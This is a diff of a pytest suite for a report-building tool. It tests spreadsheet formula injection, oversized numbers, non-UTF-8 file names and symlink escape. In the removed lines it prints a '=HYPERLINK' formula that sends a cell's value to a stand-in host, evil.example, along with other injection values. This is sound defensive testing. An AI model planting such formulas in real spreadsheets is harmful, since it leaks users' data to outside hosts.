@@ -23,12 +23,10 @@ from openpyxl import load_workbook
 
 from tests import generate as g
 from tests.render_html import write_html
+from tests.zoo import GBK_NAME, HUGE, HYPERLINK, formula_html, huge_count_html
 
 REPO = Path(__file__).resolve().parents[1]
 FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
-GBK_NAME = "报告2022".encode("gbk") + b".docx"   # what unzipping a Windows zip gives
-HUGE = "99999999999999999999999"
-HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&D2,"x")'
 
 
 def ogi(*args, check=False, env=None):
@@ -48,29 +46,6 @@ def _number_field(truth: g.Truth, prefix: str) -> str:
     return next(f for f, k in truth.kinds.items() if f.startswith(prefix) and k == "number")
 
 
-def hostile_html(path: Path, seed: int = 5) -> g.Truth:
-    """A web page report whose agency, section text and cells carry formulas and control characters,
-    and one table-3 count printed off by one (so the audit lists it, raw cells included)."""
-    truth = _truth(seed, agency="=2*21人民政府")
-    wrong = _number_field(truth, "t3.new.")
-    truth.raw[wrong] = str(int(truth.values[wrong]) + 1)
-    text = _number_field(truth, "t3.granted.")
-    truth.raw[text] = "=1+2"
-    write_html(truth, path, rng=random.Random(seed))
-    page = path.read_text(encoding="utf-8")
-    page = page.replace("加强培训，提升工作质量。", f"{HYPERLINK.replace('&', '&amp;')}控制\x01字符\x1f。")
-    path.write_text(page, encoding="utf-8")
-    return truth
-
-
-def huge_count_html(path: Path, seed: int = 6) -> tuple[g.Truth, str]:
-    truth = _truth(seed)
-    fid = _number_field(truth, "t3.new.")
-    truth.raw[fid] = HUGE
-    write_html(truth, path, rng=random.Random(seed))
-    return truth, fid
-
-
 @pytest.fixture(scope="module")
 def hostile_run(tmp_path_factory):
     root = tmp_path_factory.mktemp("hostile")
@@ -79,8 +54,8 @@ def hostile_run(tmp_path_factory):
     good = _truth(7)
     g.write_docx(good, src / "good.docx", rng=random.Random(7))
     g.write_docx(_truth(8), os.fsdecode(os.path.join(os.fsencode(src), GBK_NAME)), rng=random.Random(8))
-    hostile = hostile_html(src / "hostile.html")
-    huge, huge_field = huge_count_html(src / "huge.html")
+    hostile = formula_html(src / "hostile.html", 5)
+    huge, huge_field = huge_count_html(src / "huge.html", 6)
     out = root / "out"
     proc = ogi("build", src, "-o", out, "-j", "0", "-q")
     return {"root": root, "src": src, "out": out, "proc": proc, "hostile": hostile, "huge": huge,
@@ -574,3 +549,36 @@ def test_interrupted_build_leaves_the_old_or_the_new_generation(built, tmp_path,
     assert proc.returncode == 0 and "read 3" in proc.stdout
     assert _leftovers(out) == []
     assert _one_generation(out)["state"] != built["manifest"]["state"]
+
+
+# ---------------------------------------------------------------- paths
+
+def test_out_inside_the_input_is_never_read_as_input(tmp_path):
+    src = tmp_path / "in"
+    src.mkdir()
+    g.write_docx(_truth(41), src / "r.docx", rng=random.Random(41))
+    env = dict(os.environ, OGI_PIPELINE_VERSION="trust-paths")
+    for _ in range(2):  # the second run finds OUT (audit.html, reports.csv …) inside its input
+        proc = ogi("build", src, "-o", src / "out", "-j", "0", "-q", env=env)
+        assert proc.returncode == 0 and "read 1, failed 0" in proc.stdout, proc.stdout + proc.stderr
+    other = tmp_path / "other_out"   # an earlier OUT copied into the input: recognised by its manifest
+    proc = ogi("build", src, "-o", other, "-j", "0", "-q", env=env)
+    assert "read 1, failed 0" in proc.stdout
+
+
+def test_symlinked_file_outside_the_input_is_not_followed(tmp_path):
+    src = tmp_path / "in"
+    src.mkdir()
+    g.write_docx(_truth(42), src / "r.docx", rng=random.Random(42))
+    private = tmp_path / "private"
+    private.mkdir()
+    g.write_docx(_truth(43, agency="保密单位"), private / "secret.docx", rng=random.Random(43))
+    os.symlink(private / "secret.docx", src / "published.docx")
+    os.symlink("r.docx", src / "inside-link.docx")  # a link within the input is a file like any other
+    out = tmp_path / "out"
+    proc = ogi("build", src, "-o", out, "-j", "0", "-q")
+    assert proc.returncode == 0
+    errors = pd.read_csv(out / "errors.csv", encoding="utf-8-sig")
+    outside = errors[errors["source"] == str(src / "published.docx")]
+    assert outside["reason"].str.contains("outside the input").tolist() == [True]
+    assert "保密单位" not in set(pd.read_parquet(out / "reports.parquet")["agency"])
